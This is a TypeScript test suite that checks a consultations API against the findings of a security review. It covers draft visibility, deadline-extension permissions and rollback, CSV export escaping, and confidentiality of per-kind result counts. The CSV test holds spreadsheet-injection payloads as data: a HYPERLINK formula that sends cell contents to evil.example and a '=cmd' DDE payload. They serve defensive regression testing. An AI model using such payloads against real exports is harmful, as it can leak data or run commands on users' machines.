import { parse } from 'csv-parse/sync';
import { contribute as contributeAs, createConsultation } from '../support/consultations';
import { ACCOUNTS, sampleOrganizationIds, signInDemoAccounts } from '../support/demo-accounts';
import { TestApp, outcome, startTestApp } from '../support/test-app';

/** The input type each lifecycle mutation takes. */
const inputTypeOf = (mutation: string) =>
  ({ extendConsultation: 'ExtendConsultationInput', closeConsultation: 'CloseConsultationInput' })[mutation] ??
  'ConsultationIdInput';

type Account = keyof typeof ACCOUNTS;
const HOUR = 3600_000;

const LIFECYCLE = (mutation: string, input = 'ConsultationIdInput') =>
  `mutation($input: ${input}!) { ${mutation}(input: $input) { consultation { id state closesAt } } }`;
const SPACES = `{ spaces(first: 100) { edges { node { id name } } } }`;
const RESULTS = `query($id: ID!) { consultation(id: $id) { results { contributions byKind { kind count }
  questions { options { option count byKind { kind count } } } } } }`;

/** Findings of the security review on consultations, each reproduced through the API. */
describe('consultations: findings of the security review', () => {
  let app: TestApp;
  let token: Record<Account, string>;
  let org: Record<string, string>;

  const create = (input: Record<string, unknown>) => createConsultation(app, token.moderator, input);
  const lifecycle = (mutation: string, id: string, who: Account = 'moderator', extra: Record<string, unknown> = {}) =>
    app.gql(LIFECYCLE(mutation, inputTypeOf(mutation)), { input: { id, ...extra } }, token[who]);
  /** An organisation joins, answers with the given consent and submits. */
  const contribute = (
    consultationId: string,
    who: Account,
    organization: string,
    consent: string,
    answers: Record<string, unknown>[],
  ) => contributeAs(app, token[who], { consultationId, organizationId: org[organization], consent, answers });
  const closesAtOf = async (id: string) =>
    new Date((await app.db.query('SELECT closes_at FROM consultations WHERE id = $1', [id])).rows[0].closes_at);
  const deadlineEvents = async (id: string) =>
    (
      await app.db.query(
        `SELECT count(*)::int AS n FROM audit_events WHERE kind = 'CONSULTATION_DEADLINE_CHANGED' AND subject_id = $1`,
        [id],
      )
    ).rows[0].n;

  beforeAll(async () => {
    app = await startTestApp();
    token = await signInDemoAccounts(app);
    org = await sampleOrganizationIds(app);
  });
  afterAll(() => app.close());

  it('keeps a draft’s title out of `spaces` and `space(id)` until it is published', async () => {
    const title = 'Projet confidentiel de réforme des zones franches';
    const { id } = await create({ title });
    const listed = async (who: Account) =>
      (await app.gql<{ spaces: { edges: { node: { id: string; name: string } }[] } }>(SPACES, {}, token[who])).data!
        .spaces.edges;
    // Whatever space exists for the draft (by its name), a member reaches it neither in the list nor by id.
    for (const who of ['companyMember', 'federationRepresentative'] as Account[]) {
      expect(JSON.stringify(await listed(who))).not.toContain(title);
      const { rows } = await app.db.query(`SELECT id FROM spaces WHERE name LIKE '%' || $1 || '%'`, [title]);
      for (const { id: spaceId } of rows)
        expect(outcome(await app.gql(`query($id: ID!) { space(id: $id) { name } }`, { id: spaceId }, token[who]))).toBe(
          'NOT_FOUND',
        );
    }

    expect(outcome(await lifecycle('publishConsultation', id))).toBe('OK');
    const space = (
      await app.gql<{ consultation: { space: { id: string; name: string; visibility: string } } }>(
        `query($id: ID!) { consultation(id: $id) { space { id name visibility } } }`,
        { id },
        token.companyMember,
      )
    ).data!.consultation.space;
    expect(space).toEqual({ id: expect.any(String), name: `Consultation — ${title}`, visibility: 'RESTRICTED' });
    expect((await listed('companyMember')).map((edge) => edge.node.id)).toContain(space.id);
  });

  it('opens to readers, at publication, the space an older draft had already made (kept PRIVATE until then)', async () => {
    const { id } = await create({ title: 'Brouillon d’avant la correction' });
    // As the migration leaves a draft that had its space opened at creation: PRIVATE, owned by the ministry.
    const { rows } = await app.db.query(
      `INSERT INTO spaces (slug, name, owner_organization_id, visibility, created_by_id)
       SELECT 'consultation-ancienne', 'Consultation — Titre provisoire', o.id, 'PRIVATE', c.created_by_id
         FROM consultations c, organizations o WHERE c.id = $1 AND o.kind = 'MINISTRY' LIMIT 1 RETURNING id`,
      [id],
    );
    await app.db.query('UPDATE consultations SET space_id = $2 WHERE id = $1', [id, rows[0].id]);
    const read = () =>
      app.gql(`query($id: ID!) { space(id: $id) { name visibility } }`, { id: rows[0].id }, token.companyMember);
    expect(outcome(await read())).toBe('NOT_FOUND');
    expect(outcome(await lifecycle('publishConsultation', id))).toBe('OK');
    expect((await read()).data).toEqual({
      space: { name: 'Consultation — Brouillon d’avant la correction', visibility: 'RESTRICTED' },
    });
  });

  it('lets staff who are not in the consultation’s space extend it, announcing it pinned in that space', async () => {
    const { id } = await create({ title: 'Prolongation par l’administration' });
    await lifecycle('publishConsultation', id);
    const before = await closesAtOf(id);
    const later = new Date(before.getTime() + 24 * HOUR);
    // The administrator did not create the consultation and is not a member of its space.
    expect(outcome(await lifecycle('extendConsultation', id, 'admin', { closesAt: later }))).toBe('OK');
    expect((await closesAtOf(id)).getTime()).toBe(later.getTime());
    expect(await deadlineEvents(id)).toBe(1);
    const threads = await app.gql<{
      consultation: { space: { threads: { edges: { node: { title: string; pinned: boolean } }[] } } };
    }>(
      `query($id: ID!) { consultation(id: $id) { space { threads { edges { node { title pinned } } } } } }`,
      { id },
      token.companyMember,
    );
    expect(threads.data!.consultation.space.threads.edges.map((edge) => edge.node)).toEqual([
      { title: expect.stringContaining('Délai prolongé'), pinned: true },
    ]);
  });

  it('moves no deadline and audits nothing when an extension is refused or its announcement fails', async () => {
    const { id } = await create({ title: 'Prolongation refusée' });
    await lifecycle('publishConsultation', id);
    const before = await closesAtOf(id);
    const later = new Date(before.getTime() + 24 * HOUR);
    expect(outcome(await lifecycle('extendConsultation', id, 'federationRepresentative', { closesAt: later }))).toBe(
      'FORBIDDEN',
    );
    expect(outcome(await lifecycle('extendConsultation', id, 'moderator', { closesAt: before }))).toBe(
      'BAD_USER_INPUT',
    );
    // The announcement cannot be written (a fault injected in the database): the new deadline is not kept either.
    await app.db.query(`CREATE FUNCTION refuse_threads() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN RAISE EXCEPTION 'threads refused for this test'; END $$`);
    await app.db.query(
      `CREATE TRIGGER refuse_threads BEFORE INSERT ON threads FOR EACH ROW EXECUTE FUNCTION refuse_threads()`,
    );
    try {
      expect(outcome(await lifecycle('extendConsultation', id, 'admin', { closesAt: later }))).not.toBe('OK');
    } finally {
      await app.db.query('DROP TRIGGER refuse_threads ON threads');
      await app.db.query('DROP FUNCTION refuse_threads()');
    }
    expect((await closesAtOf(id)).getTime()).toBe(before.getTime());
    expect(await deadlineEvents(id)).toBe(0);
  });

  it('exports answers and prompts that start a formula as text a spreadsheet does not evaluate (OWASP)', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', '+1+1', '-2+3', '@SUM(A1:A2)'];
    const { id, questions } = await create({
      title: 'Export CSV',
      invitedOrganizationIds: [org['ADI']],
      questions: [
        { kind: 'TEXT', prompt: '=cmd|"/C calc"!A0', required: true },
        { kind: 'TEXT', prompt: '\tTab', required: false },
      ],
    });
    await lifecycle('publishConsultation', id);
    const plans: [Account, string, string][] = [
      ['federationRepresentative', 'FMO', formulas[0]],
      ['companyRepresentative', 'Atlas', formulas[1]],
      ['otherRepresentative', 'ADI', formulas[2]],
    ];
    for (const [who, organization, text] of plans)
      await contribute(id, who, organization, 'PUBLIC_NAMED', [
        { questionId: questions[0].id, text },
        { questionId: questions[1].id, text: formulas[3] },
      ]);
    const response = await fetch(`${app.baseUrl}/consultations/${id}/contributions.csv`, {
      headers: { authorization: `Bearer ${token.moderator}` },
    });
    expect(response.status).toBe(200);
    const table: string[][] = parse(await response.text(), { bom: true, comment: '#', comment_no_infix: true });
    const [header, ...rows] = table;
    expect(header.slice(5)).toEqual(['Q1 =cmd|"/C calc"!A0', 'Q2 \tTab']);
    expect(rows.map((row) => row[5]).sort()).toEqual(
      formulas
        .slice(0, 3)
        .map((text) => `'${text}`)
        .sort(),
    );
    expect(rows.map((row) => row[6])).toEqual([`'${formulas[3]}`, `'${formulas[3]}`, `'${formulas[3]}`]);
    // No cell of the file starts a formula, whatever its column.
    for (const cell of table.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('never reveals a lone CONFIDENTIAL answer through the per-kind counts of published results', async () => {
    const { id, questions } = await create({
      title: 'Résultats par catégorie',
      eligibleKinds: ['FEDERATION', 'COMPANY'],
      invitedOrganizationIds: [org['ADI']],
      questions: [
        { kind: 'SINGLE_CHOICE', prompt: 'Faut-il plus de zones ?', options: ['oui', 'non'], required: true },
      ],
    });
    await lifecycle('publishConsultation', id);
    // ADI is the only INSTITUTION, and the only one to answer "non", confidentially.
    await contribute(id, 'federationRepresentative', 'FMO', 'PUBLIC_NAMED', [
      { questionId: questions[0].id, choices: ['oui'] },
    ]);
    await contribute(id, 'companyRepresentative', 'Atlas', 'PUBLIC_NAMED', [
      { questionId: questions[0].id, choices: ['oui'] },
    ]);
    await contribute(id, 'otherRepresentative', 'ADI', 'CONFIDENTIAL', [
      { questionId: questions[0].id, choices: ['non'] },
    ]);
    await lifecycle('closeConsultation', id);
    await lifecycle('publishConsultationResults', id);

    type Results = {
      contributions: number;
      byKind: { kind: string; count: number }[];
      questions: { options: { option: string; count: number; byKind: { kind: string; count: number }[] }[] }[];
    };
    const published = (await app.gql<{ consultation: { results: Results } }>(RESULTS, { id }, token.companyMember))
      .data!.consultation.results;
    expect(JSON.stringify(published)).not.toContain('INSTITUTION');
    expect(published.byKind).toEqual([{ kind: 'OTHER', count: 3 }]);
    expect(published.questions[0].options).toEqual([
      { option: 'oui', count: 2, byKind: [{ kind: 'OTHER', count: 2 }] },
      { option: 'non', count: 1, byKind: [{ kind: 'OTHER', count: 1 }] },
    ]);
    // The ministry's moderators read every answer anyway: they keep the exact split.
    const live = (await app.gql<{ consultation: { results: Results } }>(RESULTS, { id }, token.moderator)).data!
      .consultation.results;
    expect(live.questions[0].options[1].byKind).toEqual([{ kind: 'INSTITUTION', count: 1 }]);
  });
});
